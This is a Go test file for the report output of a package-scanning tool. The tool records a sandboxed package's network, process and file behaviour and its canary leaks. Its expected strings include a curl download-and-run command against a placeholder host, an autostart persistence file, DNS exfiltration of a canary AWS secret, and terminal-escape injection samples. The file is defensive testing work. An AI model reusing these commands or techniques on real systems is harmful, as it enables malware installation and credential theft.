package report

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/verifymcp/verifymcp/evidence"
	"github.com/verifymcp/verifymcp/rubric"
)

func tableText(t *testing.T, rep Report) string {
	t.Helper()
	var buf bytes.Buffer
	if err := WriteTable(&buf, rep); err != nil {
		t.Fatal(err)
	}
	return buf.String()
}

// TestBehaviorSection checks what the BEHAVIOUR section must always say:
// how long each phase was watched, that no finding means nothing was seen
// in those seconds, and that behaviour not assessed is said to be so.
func TestBehaviorSection(t *testing.T) {
	t.Run("watched", func(t *testing.T) {
		out := tableText(t, build(t, loadBundle(t, "behavior")))
		for _, want := range []string{
			"BEHAVIOUR  2 phases watched, 52.14s in total",
			"phase scripts: watched 6.84s by sink ok, tracer ok, files ok",
			"phase run: watched 45.3s (30s idle after the listing) by sink ok, tracer ok, files ok",
			"No behaviour finding only means nothing was seen in the 52.14s watched (scripts 6.84s, run 45.3s)",
			"canaries planted (values never shown): aws_access_key_id at env:AWS_ACCESS_KEY_ID",
			"A 77j4mfy2lnyfv5ta.k7mdeng.c.telemetry-cdn.example.net",
			"tcp 198.51.100.23:8080  LITERAL IP  POST /api/v1/hb Host 198.51.100.23:8080",
			"AFTER THE LISTING",
			`/bin/sh -c 'curl -fsS https://update.fs-pro.example.net/v2/check?v=2.1.4 -o /tmp/.fsu && sh /tmp/.fsu'`,
			"created ~/.config/autostart/telemetry-helper.desktop  SENSITIVE (autostart)",
			"CANARY aws_secret_access_key (env:AWS_SECRET_ACCESS_KEY) left by dns, encoded dns_labels",
		} {
			if !strings.Contains(out, want) {
				t.Errorf("table lacks %q:\n%s", want, out)
			}
		}
	})
	t.Run("watched_nothing_seen", func(t *testing.T) {
		b := loadBundle(t, "behavior")
		bh := b.Behavior
		bh.Network, bh.Files, bh.Processes, bh.Exfiltration = nil, nil, nil, nil
		out := tableText(t, build(t, b))
		if n := strings.Count(out, "    nothing seen"); n != 2 {
			t.Errorf("%d phases say nothing seen, want 2:\n%s", n, out)
		}
		if !strings.Contains(out, "No behaviour finding only means nothing was seen in the 52.14s watched") {
			t.Errorf("table lacks the statement of what was watched:\n%s", out)
		}
	})
	t.Run("observer_failed", func(t *testing.T) {
		b := loadBundle(t, "behavior")
		b.Behavior.Watches[1].Tracer = "died during the phase (exit 137)"
		out := tableText(t, build(t, b))
		if !strings.Contains(out, "tracer NOT OK (died during the phase (exit 137))") {
			t.Errorf("table does not show the failed tracer:\n%s", out)
		}
	})
	t.Run("not_assessed", func(t *testing.T) {
		out := tableText(t, build(t, loadBundle(t, "everything")))
		for _, want := range []string{
			"BEHAVIOUR  not assessed: signal sandbox.behavior is not_assessed (behaviour capture is not enabled)",
			"No phase was watched, so the absence of behaviour findings says nothing about what the",
		} {
			if !strings.Contains(out, want) {
				t.Errorf("table lacks %q:\n%s", want, out)
			}
		}
	})
	t.Run("observed_but_missing", func(t *testing.T) {
		b := loadBundle(t, "behavior")
		b.Behavior = nil
		out := tableText(t, build(t, b))
		if !strings.Contains(out, "BEHAVIOUR  not captured: signal sandbox.behavior is observed") {
			t.Errorf("table does not say behaviour was not captured:\n%s", out)
		}
	})
	t.Run("signal_error", func(t *testing.T) {
		b := loadBundle(t, "everything")
		b.Signals[evidence.SignalBehavior] = evidence.Signal{State: evidence.StateError, Reason: "sink: image not found"}
		out := tableText(t, build(t, b))
		if !strings.Contains(out, "BEHAVIOUR  not captured: signal sandbox.behavior is error (sink: image not found)") {
			t.Errorf("table does not name the error:\n%s", out)
		}
	})
}

// TestBehaviorJSON checks the behaviour member: events as recorded, in
// order, and canaries by kind and place only.
func TestBehaviorJSON(t *testing.T) {
	b := loadBundle(t, "behavior")
	rep := build(t, b)
	if rep.Behavior == nil {
		t.Fatal("behavior is null for a bundle with behaviour evidence")
	}
	bh := rep.Behavior
	if len(bh.Network) != len(b.Behavior.Network) || len(bh.Processes) != len(b.Behavior.Processes) ||
		len(bh.Files) != len(b.Behavior.Files) || len(bh.Exfiltration) != len(b.Behavior.Exfiltration) ||
		len(bh.Watches) != 2 || len(bh.Canaries) != 6 {
		t.Fatalf("behaviour counts differ from the evidence: %+v", bh)
	}
	if got := bh.Network[0]; got.Time != "2026-11-28T10:15:21.412Z" || got.DNSType != "A" || got.Package != "node-telemetry-helper" {
		t.Errorf("network[0] = %+v", got)
	}
	var buf bytes.Buffer
	if err := WriteJSON(&buf, rep); err != nil {
		t.Fatal(err)
	}
	var m struct {
		Behavior struct {
			Canaries []map[string]any `json:"canaries"`
		} `json:"behavior"`
	}
	if err := json.Unmarshal(buf.Bytes(), &m); err != nil {
		t.Fatal(err)
	}
	for _, c := range m.Behavior.Canaries {
		if len(c) != 2 || c["kind"] == nil || c["where"] == nil {
			t.Errorf("canary %v carries more than kind and where", c)
		}
	}
}

// TestSchemaRejectsBehavior checks the schema's hold on the behaviour
// member.
func TestSchemaRejectsBehavior(t *testing.T) {
	sch := compileSchema(t)
	var buf bytes.Buffer
	if err := WriteJSON(&buf, build(t, loadBundle(t, "behavior"))); err != nil {
		t.Fatal(err)
	}
	if err := validate(t, sch, buf.Bytes()); err != nil {
		t.Fatalf("the behaviour report does not validate: %v", err)
	}
	bh := func(m map[string]any) map[string]any { return m["behavior"].(map[string]any) }
	first := func(m map[string]any, list string) map[string]any { return bh(m)[list].([]any)[0].(map[string]any) }
	tests := []struct {
		name   string
		mutate func(m map[string]any)
	}{
		{"canary_with_value", func(m map[string]any) { first(m, "canaries")["value"] = "wJalrXUtnFEMI/K7MDENG" }},
		{"exfiltration_canary_with_value", func(m map[string]any) {
			first(m, "exfiltration")["canary"].(map[string]any)["value"] = "wJalrXUtnFEMI/K7MDENG"
		}},
		{"watches_omitted", func(m map[string]any) { delete(bh(m), "watches") }},
		{"network_null", func(m map[string]any) { bh(m)["network"] = nil }},
		{"watch_without_sink", func(m map[string]any) { delete(first(m, "watches"), "sink") }},
		{"negative_watch", func(m map[string]any) { first(m, "watches")["watched_ms"] = -1 }},
		{"event_time_not_utc", func(m map[string]any) { first(m, "network")["time"] = "2026-11-28T11:15:21+01:00" }},
		{"port_out_of_range", func(m map[string]any) { first(m, "network")["dst_port"] = 70000 }},
		{"argv_null", func(m map[string]any) { first(m, "processes")["argv"] = nil }},
		{"unknown_event_member", func(m map[string]any) { first(m, "files")["content"] = "..." }},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var m map[string]any
			if err := json.Unmarshal(buf.Bytes(), &m); err != nil {
				t.Fatal(err)
			}
			tt.mutate(m)
			data, err := json.Marshal(m)
			if err != nil {
				t.Fatal(err)
			}
			if err := validate(t, sch, data); err == nil {
				t.Error("schema accepted the mutated report")
			}
		})
	}
}

// TestRubricV1Unchanged scores each fixture under rubric v1 and compares
// the scoring part of the report with the report released under v1: the
// rubric identity, findings with their remediation, dimensions and score
// must be exactly as they were. Those goldens are never rewritten.
func TestRubricV1Unchanged(t *testing.T) {
	v1, err := rubric.Load("1")
	if err != nil {
		t.Fatal(err)
	}
	sch := compileSchemaBytes(t, "report.v1.schema.json", mustRead(t, filepath.Join("schema", "report.v1.schema.json")))
	for _, name := range v1Fixtures {
		t.Run(name, func(t *testing.T) {
			golden := mustRead(t, filepath.Join("testdata", "rubric_v1", name+".report.json"))
			if err := validate(t, sch, golden); err != nil {
				t.Errorf("v1 golden does not validate against the v1 schema: %v", err)
			}
			b := loadBundle(t, name)
			rep := Build(b, v1, rubric.Evaluate(b, v1))
			var buf bytes.Buffer
			if err := WriteJSON(&buf, rep); err != nil {
				t.Fatal(err)
			}
			var want, got map[string]json.RawMessage
			if err := json.Unmarshal(golden, &want); err != nil {
				t.Fatal(err)
			}
			if err := json.Unmarshal(buf.Bytes(), &got); err != nil {
				t.Fatal(err)
			}
			// Report v6 adds members to session and install; the v1 members
			// must be as released.
			var gm map[string]any
			if err := json.Unmarshal(buf.Bytes(), &gm); err != nil {
				t.Fatal(err)
			}
			asV5(gm)
			for _, key := range []string{"install", "session", "findings", "target"} {
				raw, err := json.Marshal(gm[key])
				if err != nil {
					t.Fatal(err)
				}
				got[key] = raw
			}
			for _, key := range []string{"rubric", "findings", "dimensions", "score", "signals", "install", "session", "contract", "target"} {
				g := got[key]
				if key == "signals" {
					// Report v3 adds where and when each signal was
					// fetched; the v1 members must be as released.
					g = v1Signals(t, g)
				}
				if d := jsonEqual(want[key], g); d != "" {
					t.Errorf("%s under rubric v1 differs from the released report (-want +got):\n%s", key, d)
				}
			}
		})
	}
}

// v1Signals keeps, of each signal, the members report v1 had.
func v1Signals(t *testing.T, raw json.RawMessage) json.RawMessage {
	t.Helper()
	var signals map[string]map[string]any
	if err := json.Unmarshal(raw, &signals); err != nil {
		t.Fatal(err)
	}
	// The drift signal is recorded by scans since pins (report v7); the
	// bundle's other signals are as released.
	delete(signals, "drift")
	for _, s := range signals {
		for k := range s {
			if k != "state" && k != "reason" && k != "third_party" {
				delete(s, k)
			}
		}
	}
	out, err := json.Marshal(signals)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func mustRead(t *testing.T, path string) []byte {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// TestBehaviorTableEscapesTerminalControl checks that text the package
// controls (DNS names, paths, argv, HTTP lines, previews) cannot drive the
// terminal from the BEHAVIOUR section.
func TestBehaviorTableEscapesTerminalControl(t *testing.T) {
	b := loadBundle(t, "behavior")
	bh := b.Behavior
	bh.Network[0].DNSName = "x\x1b]0;pwned\x07.example.net"
	bh.Network[5].HTTPTarget = "/hb\r\nX-Evil: 1"
	bh.Network[5].Preview = "\x1b[2J"
	bh.Files[1].Path = "~/.cache/\u202egnp.exe"
	bh.Processes[3].Argv = []string{"sh", "-c", "echo \x1b[31mred"}
	bh.Exfiltration[0].Masked = "wJa\x07…"
	out := tableText(t, build(t, b))
	for _, bad := range []string{"\x1b", "\x07", "\u202e", "\r"} {
		if strings.Contains(out, bad) {
			t.Errorf("table contains raw %q", bad)
		}
	}
	for _, want := range []string{`x\x1b]0;pwned\x07.example.net`, `/hb\r\nX-Evil: 1`, `~/.cache/\u202egnp.exe`, `'echo \x1b[31mred'`, `wJa\x07…`} {
		if !strings.Contains(out, want) {
			t.Errorf("table lacks the escaped form %s", want)
		}
	}
}

// TestConnectionLine: a connection read inside TLS says so, with its
// protocol and the process that made it; one that refused the run's CA
// says that only its server name is known.
func TestConnectionLine(t *testing.T) {
	for _, c := range []struct {
		e    NetEvent
		want string
	}{
		{NetEvent{Kind: "tcp", DstIP: "198.18.0.4", DstPort: 443, SNI: "h2.example.net", TLS: true, ALPN: "h2", HTTPMethod: "POST", HTTPTarget: "/u",
			HTTPHost: "h2.example.net:443", PID: 41, Exe: "/usr/local/bin/node", Bytes: 900, Preview: `{"k":"[secret:env:API_TOKEN]"}`, Secrets: []string{"env:API_TOKEN"}},
			`tcp 198.18.0.4:443  sni h2.example.net  https (h2)  POST /u Host h2.example.net:443  by node pid 41  900 bytes  SECRET SENT env:API_TOKEN  sent "{\"k\":\"[secret:env:API_TOKEN]\"}"`},
		{NetEvent{Kind: "tcp", DstIP: "198.18.0.5", DstPort: 443, SNI: "pinned.example.com", TLSRefused: true, Bytes: 517},
			`tcp 198.18.0.5:443  sni pinned.example.com  TLS REFUSED (the client does not trust the run's CA: what it sent is not known)  517 bytes`},
	} {
		if got := connection(c.e); got != c.want {
			t.Errorf("connection(%+v)\n got %q\nwant %q", c.e, got, c.want)
		}
	}
}
